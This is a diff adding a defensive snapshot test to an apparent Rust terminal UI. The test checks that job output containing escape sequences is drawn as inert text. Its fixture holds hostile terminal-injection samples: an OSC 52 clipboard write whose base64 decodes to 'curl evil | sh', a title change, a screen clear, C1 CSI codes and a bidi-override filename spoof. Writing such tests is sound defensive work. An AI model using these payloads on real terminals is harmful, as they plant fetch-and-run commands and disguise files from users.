@@ -59,6 +59,26 @@ screen!(job_detail, {
     );
     s
 });
+screen!(job_detail_of_output_with_escape_sequences, {
+    // What the job printed is shown, never obeyed: a title change, a clear screen, an
+    // OSC 52 clipboard write, a lone CR, a C1 CSI and a bidi override, each drawn as
+    // caret notation or <U+XXXX>; CRLF is a line end. The message is a worker's.
+    let mut s = client_state();
+    s.overlay = Overlay::Detail(JobId(4));
+    if let Some(job) = s.jobs.get_mut(&JobId(4)) {
+        job.message = Some("sandbox said \u{202e}gnp.exe\u{202c}".into());
+    }
+    s.outputs.insert(
+        JobId(4),
+        JobOutput::Loaded {
+            stdout: "\x1b]0;pwned\x07\x1b[2J hello\r\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n\
+                     50%\r100%\n\u{9b}31mred\u{9b}0m\n"
+                .into(),
+            stderr: "tab\there\x7f\n".into(),
+        },
+    );
+    s
+});
 screen!(job_detail_loading_its_output, {
     // Lists carry no output: until the fetch answers, the details say so.
     let mut s = client_state();
